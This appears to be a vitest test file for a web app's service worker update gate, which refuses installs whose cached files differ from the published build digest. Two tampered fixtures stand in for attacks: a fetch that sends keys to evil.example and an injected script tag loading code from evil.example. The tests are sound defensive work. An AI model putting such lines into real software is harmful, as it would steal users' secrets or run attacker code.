import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { afterEach, beforeEach, describe, expect, it } from "vitest"
import { computeBuildDigest, writeBuildDigest } from "../../../../scripts/release/digest.mjs"
import { checkInstalledFiles, parsePublishedDigest, type PublishedDigest } from "./buildDigest.ts"
import {
  admitVersion,
  promoteWaitingDigest,
  readDigest,
  readRefused,
  settleInstall,
  writeDigest,
  type UpdateOfferedMessage,
} from "./installedDigest.ts"

/** The little of CacheStorage the digest records use, in memory (Node has no `caches`). */
function installMemoryCaches() {
  const stores = new Map<string, Map<string, Response>>()
  const open = async (name: string) => {
    const store = stores.get(name) ?? new Map<string, Response>()
    stores.set(name, store)
    return {
      match: async (key: string) => store.get(key)?.clone(),
      put: async (key: string, response: Response) => void store.set(key, response),
      delete: async (key: string) => store.delete(key),
    }
  }
  ;(globalThis as { caches?: unknown }).caches = { open }
}

/**
 * One service worker install as sw.ts runs it, over a built app in `dir` served as it is on disk, with
 * `precached` standing in for the bytes the precache holds once downloaded (by default, the files on disk).
 */
async function install(
  dir: string,
  opts: { firstInstall: boolean; precached?: Record<string, string> },
): Promise<{ messages: UpdateOfferedMessage[]; error?: Error }> {
  const messages: UpdateOfferedMessage[] = []
  const notify = async (message: UpdateOfferedMessage) => void messages.push(message)
  try {
    const published = await admitVersion({
      firstInstall: opts.firstInstall,
      fetchFile: async (path) => new Response(readFileSync(join(dir, path))),
      notify,
    })
    const { files } = computeBuildDigest(dir)
    const check = await checkInstalledFiles({
      published,
      paths: Object.keys(files),
      read: async (path) =>
        opts.precached?.[path] !== undefined
          ? new TextEncoder().encode(opts.precached[path])
          : new Uint8Array(readFileSync(join(dir, path))),
    })
    await settleInstall(check, notify)
    await promoteWaitingDigest()
    return { messages }
  } catch (error) {
    return { messages, error: error as Error }
  }
}

function published(dir: string): PublishedDigest {
  return parsePublishedDigest(JSON.parse(readFileSync(join(dir, "build-digest.json"), "utf8")))!
}

describe("the update gate checks the bytes a version installed", () => {
  let dir: string
  beforeEach(() => {
    installMemoryCaches()
    dir = mkdtempSync(join(tmpdir(), "vigil-web-installed-"))
    mkdirSync(join(dir, "assets"))
    writeFileSync(join(dir, "index.html"), "<!doctype html>\n")
    writeFileSync(join(dir, "assets", "index-abc.js"), "console.log(1)\n")
    writeFileSync(join(dir, "sw.js"), "self.__WB_MANIFEST\n")
  })
  afterEach(() => {
    rmSync(dir, { recursive: true, force: true })
    delete (globalThis as { caches?: unknown }).caches
  })

  it("records the digest of the installed bytes, which is the release's published digest", async () => {
    const release = writeBuildDigest(dir, { package: "@vigil/web", version: "0.1.0" })

    const { error } = await install(dir, { firstInstall: true })

    expect(error).toBeUndefined()
    expect((await readDigest("installed"))?.digest).toBe(release)
  })

  it("refuses a first install whose precached file is not the one build-digest.json names", async () => {
    const release = writeBuildDigest(dir, { package: "@vigil/web", version: "0.1.0" })
    const tampered = { "assets/index-abc.js": "fetch('https://evil.example/?k=' + keys)\n" }

    const { error, messages } = await install(dir, { firstInstall: true, precached: tampered })

    expect(error?.message).toMatch(/refused: its files are not the build it was published as/)
    expect(messages).toEqual([{ type: "update-refused" }])
    expect(await readDigest("installed")).toBeUndefined()
    expect(await readDigest("waiting")).toBeUndefined()
    const refused = await readRefused()
    expect(refused).toMatchObject({ version: "0.1.0", published: release, files: ["assets/index-abc.js"] })
    expect(refused?.installed).not.toBe(release)
  })

  it("refuses an approved update whose bytes differ, and the running version's digest stays", async () => {
    const first = writeBuildDigest(dir, { package: "@vigil/web", version: "0.1.0" })
    await install(dir, { firstInstall: true })
    writeFileSync(join(dir, "index.html"), "<!doctype html><title>2</title>\n")
    const next = writeBuildDigest(dir, { package: "@vigil/web", version: "0.2.0" })

    // The server offers 0.2.0; the user approves it (updatePrompt.ts writes "approved").
    const offered = await install(dir, { firstInstall: false })
    expect(offered.messages).toEqual([{ type: "update-offered" }])
    expect((await readDigest("offered"))?.digest).toBe(next)
    await writeDigest("approved", published(dir))
    const { error, messages } = await install(dir, {
      firstInstall: false,
      precached: { "index.html": "<!doctype html><script src=//evil.example/x.js></script>\n" },
    })

    expect(error?.message).toMatch(/refused/)
    expect(messages).toEqual([{ type: "update-refused" }])
    expect((await readDigest("installed"))?.digest).toBe(first)
    expect(await readRefused()).toMatchObject({ version: "0.2.0", published: next, files: ["index.html"] })
  })

  it("records the bytes' digest, not the published one, when build-digest.json claims another digest", async () => {
    writeBuildDigest(dir, { package: "@vigil/web", version: "0.1.0" })
    const honest = published(dir)
    const lying = { ...honest, digest: "f".repeat(64) }
    writeFileSync(join(dir, "build-digest.json"), JSON.stringify(lying))

    const { error } = await install(dir, { firstInstall: true })

    expect(error?.message).toMatch(/refused/)
    expect(await readRefused()).toMatchObject({
      published: lying.digest,
      installed: honest.digest,
      files: [],
    })
  })
})

describe("checkInstalledFiles", () => {
  const bytes = (text: string) => new TextEncoder().encode(text)
  const files: Record<string, string> = { "index.html": "<html>", "sw.js": "worker" }
  const read = async (path: string) => bytes(files[path] ?? "")

  it("names files that were published but not installed, and installed but not published", async () => {
    const honest = await checkInstalledFiles({ published: undefined, paths: Object.keys(files), read })
    expect(honest.kind).toBe("unpublished")
    const claimed = { ...honest.installed, version: "1" }

    const missing = await checkInstalledFiles({ published: claimed, paths: ["index.html"], read })
    const unlisted = await checkInstalledFiles({
      published: claimed,
      paths: ["index.html", "sw.js", "extra.js"],
      read,
    })

    expect(missing).toMatchObject({ kind: "mismatch", missing: ["sw.js"], differing: [], unlisted: [] })
    expect(unlisted).toMatchObject({ kind: "mismatch", unlisted: ["extra.js"], differing: [], missing: [] })
    expect(await checkInstalledFiles({ published: claimed, paths: Object.keys(files), read })).toEqual({
      kind: "verified",
      installed: claimed,
    })
  })
})
